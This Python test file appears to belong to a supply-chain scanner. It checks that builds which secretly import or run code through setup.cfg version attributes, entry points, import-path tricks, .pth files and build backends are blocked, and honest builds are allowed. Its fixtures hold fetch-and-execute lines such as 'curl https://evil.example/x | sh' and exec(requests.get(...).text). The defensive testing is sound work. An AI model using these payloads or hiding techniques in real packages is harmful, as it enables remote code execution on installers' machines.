"""What a build imports, wherever it lies: each way in, and its honest twin."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gatekeeper.inspection import Inspector
from gatekeeper.model import Ruling, Verdict, When
from gatekeeper.policy import Policy
from tests.support.judging import allows, blocks, checks_of, explained, gathered, importing, installing
from tests.support.packages import sdist, wheel

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

EVIL = "import os\nos.system('curl https://evil.example/x | sh')\n"
EVIL_CALL = "import os\n\n\ndef go(*_):\n    os.system('curl https://evil.example/x | sh')\n"
SETUP = "from setuptools import setup\n"
PLAIN = SETUP + "setup(name='acme-thing')\n"
ENTRY_POINTS = "[setuptools.finalize_distribution_options]\nzz = {}:go\n"
PACKAGE = {"acme/__init__.py": "__version__ = '1'\n"}
TESTED = {**PACKAGE, "tests/__init__.py": ""}

FIRES: dict[str, tuple[str, dict[str, str]]] = {
    "a version in setup.cfg": (PLAIN, {"setup.cfg": "[metadata]\nversion = attr: tests.ver.V\n", "tests/ver.py": EVIL}),
    "a version in setup.cfg with a colon": (
        PLAIN,
        {"setup.cfg": "[metadata]\nversion: attr: tests.ver.V\n", "tests/ver.py": EVIL},
    ),
    "a version in a moved package": (
        PLAIN,
        {
            "setup.cfg": "[metadata]\nversion = attr: ver.V\n[options]\npackage_dir =\n  = docs\n",
            "docs/ver.py": EVIL,
            "ver.py": "V = '1'\n",
        },
    ),
    "a version in pyproject.toml": (
        PLAIN,
        {
            "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "tests.ver.V"}\n',
            "tests/ver/__init__.py": EVIL,
        },
    ),
    "shipped entry points": (
        PLAIN,
        {"acme.egg-info/entry_points.txt": ENTRY_POINTS.format("tests.ev"), "tests/ev.py": EVIL_CALL},
    ),
    "entry points of setup.cfg": (
        PLAIN,
        {
            "setup.cfg": "[options.entry_points]\ndistutils.setup_keywords =\n    zz = tests.ev:go\n",
            "tests/ev.py": EVIL_CALL,
        },
    ),
    "a folder put on the import path": (
        SETUP + "import sys\nsys.path.insert(0, 'tests')\nimport zz\nzz.go()\nsetup()\n",
        {"tests/zz.py": EVIL_CALL, "examples/a/zz/__init__.py": "def go():\n    pass\n"},
    ),
    "a folder put on the import path under another name": (
        SETUP + "from sys import path as p\np += ['docs/x']\nfrom zz import go\ngo()\nsetup()\n",
        {"docs/x/zz/__init__.py": EVIL_CALL},
    ),
    "a package without an __init__": (SETUP + "from docs import ev\nsetup()\n", {"docs/ev.py": EVIL}),
}
QUIET: dict[str, tuple[str, dict[str, str]]] = {
    "a version in an ordinary package": (PLAIN, {"setup.cfg": "[metadata]\nversion = attr: acme.__version__\n"}),
    "a version in pyproject.toml": (
        PLAIN,
        {"pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "acme.__version__"}\n'},
    ),
    "a test that no build imports": (PLAIN, {"tests/ev.py": EVIL}),
    "commands and their tests": (
        PLAIN,
        {"acme.egg-info/entry_points.txt": "[console_scripts]\nzz = tests.ev:go\n", "tests/ev.py": EVIL_CALL},
    ),
    "a folder of its own on the import path": (
        SETUP + "import sys\nsys.path.insert(0, 'tools')\nimport release, numpy\nsetup(version=release.V)\n",
        {"tools/release.py": "V = '1'\n", "tests/ev.py": EVIL},
    ),
}


@pytest.mark.parametrize("way", FIRES)
def test_what_a_build_imports_is_read_even_among_the_tests(way: str, tmp_path: Path) -> None:
    setup, files = FIRES[way]
    verdict = installing(tmp_path, setup, {**TESTED, **files})
    assert blocks(verdict), explained(verdict)


@pytest.mark.parametrize("way", QUIET)
def test_honest_builds_stay_allowed(way: str, tmp_path: Path) -> None:
    setup, files = QUIET[way]
    verdict = installing(tmp_path, setup, {**TESTED, **files})
    assert allows(verdict), explained(verdict)


def test_more_files_than_can_be_followed_are_said_to_be_unread(tmp_path: Path) -> None:
    setup = SETUP + "import sys\nsys.path.append(where())\nimport zz\nsetup()\n"
    verdict = installing(tmp_path, setup, {f"a{number}/zz.py": "" for number in range(12)})
    assert "not-fully-read" in checks_of(verdict)
    assert verdict.ruling is not Ruling.ALLOW


DATA = "acme_thing-1.0.data/data"


@pytest.mark.parametrize("lib", ["lib", "lib64", "local/lib"])
def test_start_up_files_below_the_prefix_are_start_up_files(lib: str, tmp_path: Path) -> None:
    path = f"{DATA}/{lib}/python3.12/site-packages/zz.pth"
    verdict = importing(tmp_path, "", {path: "import os; os.system('curl https://evil.example/x | sh')\n"})
    assert blocks(verdict), explained(verdict)
    honest = importing(tmp_path, "", {path: "../elsewhere\n", f"{DATA}/share/zz.pth": EVIL})
    assert allows(honest), explained(honest)


def test_commands_are_told_by_their_place_and_their_first_line(tmp_path: Path) -> None:
    run = "#!python\nimport os, requests\nexec(requests.get('https://evil.example/x').text)\n"
    files = {
        "acme/__init__.py": "",
        f"{DATA}/bin/one": run,
        f"{DATA}/bin/two.py": run,
        "acme_thing-1.0.data/scripts/three": run,
        "acme_thing-1.0.data/scripts/four": "#!/bin/sh\nexec python\n",
        "acme_thing-1.0.data/headers/five.py": run,
    }
    evidence = gathered(wheel("acme-thing", files=files), tmp_path)
    assert {surface.path.rpartition("/")[2] for surface in evidence.surfaces if surface.when is When.COMMAND} == {
        "one",
        "two.py",
        "three",
    }
    assert {one.file.rpartition("/")[2] for one in evidence.behaviours} == {"one", "two.py", "three"}


def of_folder(folder: Path, files: Mapping[str, str]) -> Verdict:
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content)
    return Inspector(Policy()).judge_folder(folder)


BACKEND = '[build-system]\nrequires = []\nbuild-backend = "boot"\nbackend-path = ["{}"]\n'
LEFT_OUT = {
    "an import": {"setup.py": SETUP + "from node_modules import boot\n", "node_modules/boot.py": EVIL},
    "a dotted import": {"setup.py": SETUP + "import node_modules.a.boot\n", "node_modules/a/boot.py": EVIL},
    "a backend": {"pyproject.toml": BACKEND.format("venv"), "venv/pyvenv.cfg": "", "venv/boot.py": EVIL},
    "a backend below": {"pyproject.toml": BACKEND.format("./.tox/a"), ".tox/a/boot.py": EVIL},
    "a version": {"setup.cfg": "[metadata]\nversion = attr: node_modules.V\n", "node_modules/__init__.py": EVIL},
    "an import path": {
        "setup.py": SETUP + "import sys\nsys.path.insert(0, '.tox/a')\nimport zz\n",
        ".tox/a/zz.py": EVIL,
    },
    "a file that is run": {
        "setup.py": SETUP + "import runpy\nrunpy.run_path('.tox/a.py')\n",
        ".tox/a.py": EVIL,
    },
}


@pytest.mark.parametrize("way", LEFT_OUT)
def test_a_build_that_imports_from_a_folder_that_is_left_out_is_not_allowed(way: str, tmp_path: Path) -> None:
    verdict = of_folder(tmp_path, LEFT_OUT[way])
    assert "not-fully-read" in checks_of(verdict)
    assert verdict.ruling is not Ruling.ALLOW, explained(verdict)


def test_folders_that_are_left_out_and_run_nowhere_are_not_even_mentioned(tmp_path: Path) -> None:
    files = {
        "setup.py": SETUP
        + "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nimport acme, numpy\nsetup()\n",
        "acme/__init__.py": "",
        "node_modules/gyp/__init__.py": EVIL,
        ".git/config": "",
        ".venv/pyvenv.cfg": "",
        ".venv/lib/a.py": EVIL,
    }
    verdict = of_folder(tmp_path, files)
    assert allows(verdict), explained(verdict)
    assert verdict.findings == ()


def test_an_sdist_may_call_a_folder_like_a_tools(tmp_path: Path) -> None:
    files = {"setup.py": SETUP + "from node_modules import boot\n", "node_modules/boot.py": EVIL}
    from tests.support.judging import judged

    assert blocks(judged(sdist("acme-thing", files=files), tmp_path))
